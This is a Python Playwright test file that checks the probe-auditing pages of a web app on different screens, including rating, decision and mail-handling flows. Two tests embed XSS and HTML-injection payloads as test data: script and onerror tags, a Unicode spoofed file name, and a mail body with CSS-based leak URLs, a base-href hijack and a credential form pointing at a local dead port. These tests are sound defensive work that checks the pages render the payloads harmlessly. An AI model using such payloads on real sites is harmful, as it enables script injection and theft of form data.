"""The pages of probes in a real browser: on a phone and on a desk, in light and dark, and while a probe is open."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

import pytest
from playwright.sync_api import Page, expect
from sqlalchemy.orm import Session

from audit_app.models import ChannelName, Location, Probe, User
from probes.base import Proof
from tests.browser.pages import Screen, check_page, sign_in
from tests.integration.probes import probe_scene as scene

pytestmark = [pytest.mark.browser, pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)]

HOSTILE = "<script>alert(1)</script><img src=x onerror=alert(2)> \u202egnp.exe " + "A" * 3_000


def now() -> datetime:
    """The time by which the pages go."""
    return datetime.now(UTC)


def chat(session: Session, location: Location, at: datetime) -> Probe:
    """A chat answered by a person, with its picture and its transcript."""
    rows = [
        {"role": "visitor", "author": "Anna", "text": "When do you open?", "at": at.isoformat()},
        {"role": "person", "author": "Elin", "text": "At ten.", "at": at.isoformat()},
    ]
    evidence = [
        Proof("screenshot", "image/png", "chat.png", scene.PNG),
        Proof("transcript", "application/json", "chat.json", json.dumps(rows).encode()),
    ]
    answer = scene.seen(
        "human_reply", at + scene.HOUR, "At ten.", role="person", author="Elin", evidence=evidence
    )
    return scene.happened(session, scene.probe_to(session, location, at, ChannelName.CHAT), answer)


def hostile(session: Session, location: Location, at: datetime) -> Probe:
    """An answer that tries to do harm."""
    answer = scene.seen(
        "human_reply", at + scene.HOUR, HOSTILE, author=HOSTILE[:150], reasons=[HOSTILE[:300]]
    )
    return scene.happened(session, scene.probe_to(session, location, at, subject=HOSTILE[:200]), answer)


def waiting(session: Session, location: Location) -> Probe:
    """A probe that nobody has answered yet."""
    return scene.happened(session, scene.probe_to(session, location, now() - scene.HOUR), looked_at=now())


def look_at(screen: Screen, *paths: str) -> None:
    """Check each page with everything on it unfolded."""
    for path in paths:
        screen.page.goto(path)
        screen.page.evaluate(
            "document.querySelectorAll('main details').forEach(each => { each.open = true })"
        )
        check_page(screen)


def test_the_list_and_each_kind_of_probe_look_right_on_every_screen(
    screen: Screen, session: Session, umea: Location, ada: User
) -> None:
    day = timedelta(days=1)
    probes = [
        waiting(session, umea),
        scene.uncertain_probe(session, umea, now() - 5 * scene.HOUR),
        chat(session, umea, now() - day),
        scene.silent_probe(session, umea, now() - 3 * day),
        scene.answered_probe(session, umea, now() - 4 * day, hours=9),
    ]
    sign_in(screen.page, ada)
    look_at(screen, "/probes", "/probes?q=nothing&from=nonsense")
    look_at(screen, *(f"/probes/{probe.id}" for probe in probes))


def test_judging_looks_right_on_every_screen(
    screen: Screen, session: Session, umea: Location, ada: User
) -> None:
    undecided = scene.uncertain_probe(session, umea, now() - 5 * scene.HOUR)
    answered = scene.answered_probe(session, umea, now() - timedelta(days=4), hours=9)
    reply = undecided.observations[-1]
    sign_in(screen.page, ada)
    look_at(screen, f"/probes/{undecided.id}/replies/{reply.id}/decision", f"/probes/{answered.id}/rating")


def test_hostile_text_neither_runs_nor_breaks_the_page(
    screen: Screen, session: Session, umea: Location, ada: User
) -> None:
    probe = hostile(session, umea, now() - timedelta(days=2))
    stray = scene.mail(
        session, now(), HOSTILE, subject=HOSTILE[:200], sender=f'"{"B" * 300}" <b@evil.example>'
    )
    screen.page.on("dialog", lambda dialog: screen.complaints.append(dialog.message))
    sign_in(screen.page, ada)
    look_at(screen, "/probes", f"/probes/{probe.id}", f"/probes/{probe.id}/rating")
    look_at(screen, "/mail/unmatched", f"/mail/unmatched/{stray.id}")
    expect(screen.page.get_by_text("[U+202E]").first).to_be_attached()


HOSTILE_HTML = """<html><head><meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/away">
<style>@import url(http://127.0.0.1:9/css); input[value^=a] { background: url(http://127.0.0.1:9/leak) }</style></head>
<body onload="document.title='taken over'"><script>document.title = 'taken over'</script>
<img src="http://127.0.0.1:9/pixel.gif" onerror="document.title='taken over'"><base href="http://127.0.0.1:9/">
<form action="http://127.0.0.1:9/f"><input name="password" value="a"><button>Log in</button></form>
<svg onload="document.title='taken over'"><script>document.title = 'taken over'</script></svg>
<iframe src="javascript:document.title='taken over'"></iframe><a href="javascript:alert(1)">Hours</a>
<p>Hello Anna, we open at ten."""
TOWER = "\u0300" * 3000


def test_a_hostile_mail_loads_nothing_runs_nothing_and_covers_nothing(
    screen: Screen, session: Session, umea: Location, ada: User
) -> None:
    page, probe = screen.page, waiting(session, umea)
    html = f"{HOSTILE_HTML} {TOWER} {'z' * 5_000_000}</p>"
    scene.mail(session, now(), html, to=probe.from_address, subtype="html")
    stray = scene.mail(session, now(), html, uid=2, subtype="html")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: screen.complaints.append(dialog.message))
    sign_in(page, ada)
    for path in ("/probes", f"/probes/{probe.id}", "/mail/unmatched", f"/mail/unmatched/{stray.id}"):
        page.goto(path)
        expect(page).not_to_have_title("taken over")
        assert page.evaluate("document.body.scrollHeight") < 6000
        assert page.locator("main :is(form[action*=':9'], iframe, meta, style, svg script)").count() == 0
    assert [url for url in asked if ":9/" in url] == []
    assert screen.complaints == []


def test_a_picture_of_the_chat_is_shown_and_opens_large(
    screen: Screen, session: Session, umea: Location, ada: User
) -> None:
    page, probe = screen.page, chat(session, umea, now() - timedelta(days=1))
    sign_in(page, ada)
    page.goto(f"/probes/{probe.id}")
    picture = page.get_by_role("img", name="Screenshot at “Answered by a person”")
    picture.scroll_into_view_if_needed()
    expect(picture).to_have_js_property("naturalWidth", 1)
    picture.click()
    page.wait_for_url("**/evidence/**")
    assert screen.complaints == []


def test_an_open_probe_shows_what_happens_without_losing_the_place(
    screen: Screen, session: Session, umea: Location, ada: User
) -> None:
    page, probe = screen.page, waiting(session, umea)
    sign_in(page, ada)
    page.goto(f"/probes/{probe.id}")
    expect(page.get_by_text("This page updates by itself.")).to_be_visible()
    page.evaluate("scrollTo(0, 200)")
    place = page.evaluate("scrollY")
    assert place > 0
    scene.happened(session, probe, scene.seen("acknowledged", now(), "We got your message.", role="machine"))
    look_again(page)
    expect(page.get_by_text("We got your message.")).to_be_attached()
    expect(page.get_by_role("status").filter(has_text="Acknowledged")).to_contain_text(
        "does not stop the clock"
    )
    assert page.evaluate("scrollY") == place
    scene.happened(session, probe, scene.seen("human_reply", now(), "At ten.", role="person", author="Kim"))
    expect(page.get_by_role("heading", name="Answered in time")).to_be_attached(timeout=20_000)
    expect(page.get_by_role("link", name="Rate this answer")).to_be_attached()
    assert screen.complaints == []


def look_again(page: Page) -> None:
    """Do what the browser does when its window comes to the front; the page looks every ten seconds anyway."""
    page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")


def test_a_decision_says_beforehand_what_it_brings_about(
    desktop: Page, session: Session, umea: Location, ada: User
) -> None:
    probe = scene.uncertain_probe(session, umea, now() - 5 * scene.HOUR)
    sign_in(desktop, ada)
    desktop.goto(f"/probes/{probe.id}")
    desktop.get_by_role("link", name="Read it and decide").click()
    expect(desktop.get_by_text("The probe counts as answered in time.")).to_be_visible()
    desktop.get_by_role("button", name="Automatic").click()
    expect(desktop.get_by_text("Recorded: automatic.")).to_be_visible()
    expect(desktop.get_by_text("Ada Admin decided")).to_be_visible()


def test_an_answer_is_rated_with_the_keyboard_and_a_slip_keeps_what_was_chosen(
    screen: Screen, session: Session, umea: Location, ada: User
) -> None:
    page, probe = screen.page, scene.answered_probe(session, umea, now() - timedelta(days=4))
    sign_in(page, ada)
    page.goto(f"/probes/{probe.id}/rating")
    groups = page.get_by_role("group").filter(has=page.get_by_role("radio"))
    expect(groups.first).to_be_visible()
    total = groups.count()
    for place in range(1, total):
        groups.nth(place).get_by_role("radio", name="Yes").focus()
        page.keyboard.press("Space")
    page.get_by_role("button", name="Save the rating").click()
    expect(page.get_by_role("alert")).to_contain_text("Choose for “Answers every question”.")
    expect(page.get_by_role("radio", checked=True)).to_have_count(total - 1)
    page.get_by_role("link", name="Choose for “Answers every question”.").click()
    groups.first.get_by_role("radio", name="Yes").check()
    page.get_by_role("button", name="Save the rating").click()
    expect(page.get_by_text("Your rating is saved: 80.0 of 100.")).to_be_visible()
    page.get_by_text("Ada Admin: 80.0 of 100").click()
    expect(page.get_by_role("row", name="Makes a risky promise")).to_contain_text("−10.0")


def test_discarding_a_mail_asks_once_and_can_be_undone(screen: Screen, session: Session, ada: User) -> None:
    page = screen.page
    scene.mail(session, now(), "Buy now!")
    sign_in(page, ada)
    page.goto("/mail/unmatched")
    page.get_by_text("Discard…").click()
    page.get_by_role("button", name="Discard this mail").click()
    expect(page.get_by_text("No mail waits")).to_be_visible()
    page.get_by_role("link", name="Discarded").click()
    page.get_by_role("button", name="Put back").click()
    expect(page.get_by_role("link", name="Waiting 1")).to_be_visible()
